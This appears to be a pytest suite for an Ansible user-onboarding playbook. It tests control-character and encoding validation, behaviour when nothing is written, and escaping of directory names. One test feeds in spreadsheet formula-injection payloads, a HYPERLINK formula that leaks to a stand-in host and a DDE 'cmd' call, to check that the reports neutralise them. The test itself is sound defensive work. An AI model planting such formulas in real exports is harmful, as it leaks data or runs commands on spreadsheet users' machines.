# -*- coding: utf-8 -*-
"""Input hygiene end to end: ansible-playbook hybrid.identity.onboard_new_users with bad input (a NUL
in a name, a mapping as a surname, a control character, a Latin-1 CSV file with one good and one bad
row) stops before anything is written, and says which row and what to fix. Checked from outside:
ldap3 against the DC, the simulator's /_admin/state and /_admin/counters. And CSV formula injection:
display names that a spreadsheet would run as formulas are written to the CSV report with a quote."""
import csv
import glob
import json
import os
import uuid

import pytest

import roles_lab
from roles_lab import admin, ldap_connect, site

DOMAIN = "corp.example.com"


@pytest.fixture()
def fresh(lab):
    admin(lab, "/reset", {})
    admin(lab, "/counters/reset", {})
    yield lab


def _tagged(lab, tag):
    """{sAMAccountName: GUID} of the directory's users whose sAMAccountName holds the tag."""
    conn = ldap_connect(lab)
    try:
        conn.search(site(lab)[3], "(&(objectClass=user)(sAMAccountName=*%s*))" % tag, attributes=["sAMAccountName",
                                                                                                   "objectGUID"])
        return dict((e["raw_attributes"]["sAMAccountName"][0].decode(),
                     str(uuid.UUID(bytes_le=e["raw_attributes"]["objectGUID"][0])))
                    for e in conn.response if e.get("type") == "searchResEntry")
    finally:
        conn.unbind()


def _cleanup(lab, tag):
    # By GUID: these CNs hold characters the server escapes its own way (see test_dn_specials).
    found = _tagged(lab, tag)
    conn = ldap_connect(lab)
    try:
        for guid in found.values():
            conn.delete("<GUID=%s>" % guid)
    finally:
        conn.unbind()


def _cloud_tagged(lab, tag):
    return [u for u in admin(lab, "/state")["users"] if tag in u["userPrincipalName"]]


def _play(lab, tmp_path, *args):
    proc, recap = roles_lab.play(lab, "onboard_new_users", tmp_path, *args)
    return proc, recap.get("localhost", "")


def _good(tag, n=0):
    return {"given_name": "Good", "surname": "Row%s%d" % (tag, n), "username": "good%s%d" % (tag, n),
            "licenses": ["O365_BUSINESS_PREMIUM"], "usage_location": "US"}


def _nothing_written(lab, tag):
    assert admin(lab, "/counters")["totals"]["writes"] == 0
    assert _cloud_tagged(lab, tag) == []
    assert _tagged(lab, tag) == {}


BAD_ROWS = [
    # (the bad row's fields, what the message must say)
    ({"given_name": "Nu\u0000ll"}, ["given_name holds a control character (NUL, U+0000 at character 3)", "remove it"]),
    ({"surname": {"first": "Map", "last": "Ping"}}, ["surname must be text, not a mapping", "in quotes"]),
    ({"department": "Sales\u001b[31m"}, ["department holds a control character (control, U+001B at character 6)"]),
    ({"display_name": "Two\nLines"}, ["display_name holds a control character (line feed, U+000A"]),
    ({"surname": "C1\u0085Next"}, ["surname holds a control character (control, U+0085"]),
]


@pytest.mark.parametrize("bad, expected", BAD_ROWS, ids=["nul", "mapping", "escape", "newline", "c1"])
def test_bad_row_in_a_list_stops_the_run_before_any_write(fresh, tmp_path, bad, expected):
    lab = fresh
    tag = uuid.uuid4().hex[:5]
    row = dict({"given_name": "Bad", "surname": "Row%s" % tag, "username": "bad%s" % tag}, **bad)
    vars_file = tmp_path / "vars.json"
    vars_file.write_text(json.dumps({"users": [_good(tag), row]}))
    try:
        proc, recap = _play(lab, tmp_path, "-e", "@%s" % vars_file)
        assert proc.returncode != 0, proc.stdout[-3000:]
        out = proc.stdout
        assert "1 of 2 rows cannot be used; nothing was written" in out, out[-3000:]
        assert "item 2 (bad%s@%s)" % (tag, DOMAIN) in out, out[-3000:]
        for phrase in expected:
            assert phrase in out, (phrase, out[-3000:])
        assert "item 1" not in out  # the good row is not blamed
        _nothing_written(lab, tag)
        assert not os.path.exists(tmp_path / "hybrid_identity_reports" / "onboard_new_users-passwords.csv")
    finally:
        _cleanup(lab, tag)


def test_latin1_csv_with_a_good_and_a_bad_row_writes_nothing(fresh, tmp_path):
    lab = fresh
    tag = uuid.uuid4().hex[:5]
    path = tmp_path / "users.csv"
    text = ("given_name,surname,username,licenses,usage_location\n"
            "Good,Row%s,good%s0,O365_BUSINESS_PREMIUM,US\n"
            "Ren\u00e9,M\u00fcller%s,rene%s,O365_BUSINESS_PREMIUM,US\n" % (tag, tag, tag, tag))
    path.write_bytes(text.encode("latin-1"))
    try:
        proc, recap = _play(lab, tmp_path, "-e", "users_csv=%s" % path)
        assert proc.returncode != 0, proc.stdout[-3000:]
        out = proc.stdout
        assert "codec can't encode" not in out + proc.stderr
        assert "1 of 2 rows cannot be used; nothing was written" in out, out[-3000:]
        assert "line 3 (rene%s@%s): given_name holds a byte that is not UTF-8 (0xE9 at character 4)" % (tag, DOMAIN) in out, \
            out[-3000:]
        assert "surname holds a byte that is not UTF-8 (0xFC at character 2)" in out
        assert "save it as UTF-8" in out and "line 2" not in out
        _nothing_written(lab, tag)

        # The same file saved as UTF-8 (with the BOM Excel writes) goes through.
        path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
        proc, recap = _play(lab, tmp_path, "-e", "users_csv=%s" % path)
        assert proc.returncode == 0, proc.stdout[-3000:]
        assert sorted(_tagged(lab, tag)) == sorted(["good%s0" % tag, "rene%s" % tag])
        names = sorted((u["givenName"], u["surname"]) for u in _cloud_tagged(lab, tag))
        assert names == [("Good", "Row%s" % tag), ("Ren\u00e9", "M\u00fcller%s" % tag)]
    finally:
        _cleanup(lab, tag)


FORMULAS = ['=HYPERLINK("http://x.example/?leak","x")', "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-2+3"]


def test_formula_injection_neutralised_in_the_csv_report(fresh, tmp_path):
    lab = fresh
    tag = uuid.uuid4().hex[:5]
    users = [{"given_name": "Formula", "surname": "Name%s%d" % (tag, i), "username": "fx%s%d" % (tag, i),
              "display_name": "%s %s" % (formula, tag)} for i, formula in enumerate(FORMULAS)]
    vars_file = tmp_path / "vars.json"
    vars_file.write_text(json.dumps({"users": users}))
    try:
        proc, recap = _play(lab, tmp_path, "-e", "@%s" % vars_file)
        assert proc.returncode == 0, proc.stdout[-3000:]
        # Stored as given on both sides (it is a name, not our business to change it)...
        cloud = dict((u["userPrincipalName"].split("@")[0], u["displayName"]) for u in _cloud_tagged(lab, tag))
        assert cloud == dict(("fx%s%d" % (tag, i), "%s %s" % (f, tag)) for i, f in enumerate(FORMULAS))
        assert len(_tagged(lab, tag)) == len(FORMULAS)
        # ...but the report a spreadsheet opens shows every such cell as text.
        reports = sorted(glob.glob(str(tmp_path / "hybrid_identity_reports" / "onboard_new_users-localhost-*.csv")))
        with open(reports[-1], newline="", encoding="utf-8") as handle:
            raw = handle.read()
        rows = list(csv.DictReader(raw.splitlines()))
        names = sorted(r["name"] for r in rows)
        assert names == sorted("'%s %s" % (f, tag) for f in FORMULAS), names
        for row in rows:
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
        html = sorted(glob.glob(str(tmp_path / "hybrid_identity_reports" / "onboard_new_users-localhost-*.html")))[-1]
        with open(html, encoding="utf-8") as handle:
            page = handle.read()
        assert '=HYPERLINK(&quot;http://x.example/?leak&quot;,&quot;x&quot;)' in page
        assert "=cmd|&#x27; /C calc&#x27;!A0" in page
    finally:
        _cleanup(lab, tag)


def test_question_mark_name_onboards_links_and_a_rerun_changes_nothing(fresh, tmp_path):
    """The issue's case: display name "Who? Me" (Samba spells the DN CN=Who\\? Me) was created but its
    link failed with "does not exist" on every rerun."""
    lab = fresh
    tag = uuid.uuid4().hex[:5]
    users = [{"given_name": "Who", "surname": "Me%s" % tag, "username": "who%s" % tag, "display_name": "Who? Me %s" % tag,
              "licenses": ["O365_BUSINESS_PREMIUM"], "usage_location": "US"},
             {"given_name": "Doe", "surname": "John%s" % tag, "username": "doe%s" % tag,
              "display_name": "Doe, John <%s> #1; \"x\" + y" % tag}]
    vars_file = tmp_path / "vars.json"
    vars_file.write_text(json.dumps({"users": users}))
    try:
        proc, recap = _play(lab, tmp_path, "-e", "@%s" % vars_file)
        assert proc.returncode == 0, proc.stdout[-3000:]
        ad = roles_lab.ad_users(lab, "(|(sAMAccountName=who%s)(sAMAccountName=doe%s))" % (tag, tag))
        state = admin(lab, "/state")
        for sam in ("who%s" % tag, "doe%s" % tag):
            cloud = next(u for u in state["users"] if u["userPrincipalName"] == "%s@%s" % (sam, DOMAIN))
            assert roles_lab.text(ad[sam], roles_lab.LINK_ATTRIBUTE) == cloud["id"], sam
            assert cloud["onPremisesImmutableId"] == roles_lab.immutable_id(ad[sam]), sam
        assert "\\?" in ad["who%s" % tag]["dn"] or "\\3f" in ad["who%s" % tag]["dn"].lower()
        admin(lab, "/counters/reset", {})
        proc, recap = _play(lab, tmp_path, "-e", "@%s" % vars_file)
        assert proc.returncode == 0 and "changed=0" in recap, proc.stdout[-3000:]
        assert "does not exist" not in proc.stdout
        assert admin(lab, "/counters")["totals"]["writes"] == 0
    finally:
        _cleanup(lab, tag)
